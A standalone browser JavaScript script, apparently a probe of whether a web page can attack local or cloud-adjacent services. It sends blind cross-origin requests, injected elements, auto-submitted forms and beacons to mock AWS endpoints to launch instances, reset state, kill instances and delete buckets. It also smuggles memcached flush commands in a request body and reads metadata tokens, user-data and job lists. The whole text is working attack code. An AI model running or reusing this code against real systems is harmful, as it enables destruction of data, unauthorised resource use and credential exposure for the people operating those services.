async ({ bases, credentials, ...more }) => {
  const found = {};
  const waiting = [];
  for (const base of bases)
    for (const credential of credentials)
      waiting.push(attack({ base, credential, ...more }).then((seen) => Object.assign(found, seen)));
  await Promise.all(waiting);
  return found;

  async function attack({ base, credential, runInstances, instance, bucket }) {
  const scope = encodeURIComponent(`${credential}/20260101/us-east-1/ec2/aws4_request`);
  const sign = (path) => `${base}${path}${path.includes("?") ? "&" : "?"}X-Amz-Credential=${scope}`;
  const header = `AWS4-HMAC-SHA256 Credential=${credential}/20260101/us-east-1/ec2/aws4_request, SignedHeaders=host, Signature=x`;
  const form = "application/x-www-form-urlencoded";
  const seen = {};
  const limit = () => AbortSignal.timeout(15000);
  const tell = async (name, url, options = {}) => {
    try {
      const answer = await fetch(url, { signal: limit(), ...options });
      const text = answer.type === "opaque" ? "" : await answer.text();
      seen[`${name} at ${base}`] = { status: answer.status, text: text.slice(0, 200) };
    } catch (error) {
      seen[`${name} at ${base}`] = { error: error.name };
    }
  };
  const element = (tag, attribute, url) =>
    new Promise((resolve) => {
      const one = document.createElement(tag);
      if (tag === "link") one.rel = "stylesheet";
      one[attribute] = url;
      one.onload = one.onerror = resolve;
      setTimeout(resolve, 2000);
      (document.body || document.documentElement).append(one);
    });
  const posted = (url, fields, target) => {
    const one = document.createElement("form");
    Object.assign(one, { method: "post", action: url, target });
    for (const [name, value] of fields) {
      const input = document.createElement("input");
      Object.assign(input, { name, value });
      one.append(input);
    }
    document.body.append(one);
    one.submit();
  };

  await Promise.all([
    // What a page may send without leave; the answer is opaque.
    tell("run", sign("/"), { method: "POST", mode: "no-cors", headers: { "Content-Type": form }, body: runInstances }),
    tell("run by get", sign(`/?${runInstances}`), { mode: "no-cors" }),
    tell("reset", sign("/moto-api/reset"), { method: "POST", mode: "no-cors" }),
    tell("kill as text", sign("/_gridwell/kill"), { method: "POST", mode: "no-cors", body: JSON.stringify({ instance }) }),
    tell("cache", base, { method: "POST", mode: "no-cors", body: "\r\nflush_all\r\nset canary 0 0 1\r\nx\r\n" }),
    tell("submit", `${base}/v1/jobs`, { method: "POST", mode: "no-cors", body: '{"grid_size": 4, "atom_count": 5}' }),
    tell("submit by form", `${base}/jobs`, { method: "POST", mode: "no-cors", headers: { "Content-Type": form }, body: "example=1" }),
    tell("kill by form", `${base}/fleet/${instance}/kill`, { method: "POST", mode: "no-cors" }),
    // What a page can read, or do with leave.
    tell("read run", sign("/"), { method: "POST", headers: { "Content-Type": form }, body: runInstances }),
    tell("read signed", `${base}/`, { method: "POST", headers: { "Content-Type": form, Authorization: header }, body: runInstances }),
    tell("read buckets", sign("/")),
    tell("read data", sign("/moto-api/data.json")),
    tell("read faults", sign("/_gridwell/faults")),
    tell("put faults", `${base}/_gridwell/faults`, { method: "PUT", headers: { "Content-Type": "application/json", Authorization: `Bearer ${credential}` }, body: '{"seed": 5, "faults": []}' }),
    tell("kill", `${base}/_gridwell/kill`, { method: "POST", headers: { "Content-Type": "application/json", Authorization: `Bearer ${credential}` }, body: JSON.stringify({ instance }) }),
    tell("delete bucket", sign(`/${bucket}`), { method: "DELETE" }),
    tell("token", `${base}/latest/api/token`, { method: "PUT", headers: { "X-aws-ec2-metadata-token-ttl-seconds": "60" } }),
    tell("user data", `${base}/latest/user-data`),
    tell("metrics", `${base}/metrics`),
    tell("jobs", `${base}/v1/jobs`),
    tell("fleet", `${base}/v1/fleet`),
    element("img", "src", sign(`/?${runInstances}`)),
    element("script", "src", sign(`/?${runInstances}`)),
    element("link", "href", sign(`/?${runInstances}`)),
    element("iframe", "src", sign("/moto-api/reset")),
  ]);
  const frame = () => {
    const one = document.createElement("iframe");
    one.name = `frame-${document.querySelectorAll("iframe").length}`;
    document.body.append(one);
    return one.name;
  };
  posted(sign("/"), new URLSearchParams(runInstances), frame());
  posted(sign("/moto-api/reset"), [], frame());
  posted(`${base}/fleet/${instance}/kill`, [], frame());
  navigator.sendBeacon(sign("/"), new URLSearchParams(runInstances));
  try {
    new WebSocket(base.replace("http", "ws")).onerror = () => {};
    new EventSource(`${base}/`).onerror = (event) => event.target.close();
  } catch {}
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return seen;
  }
}
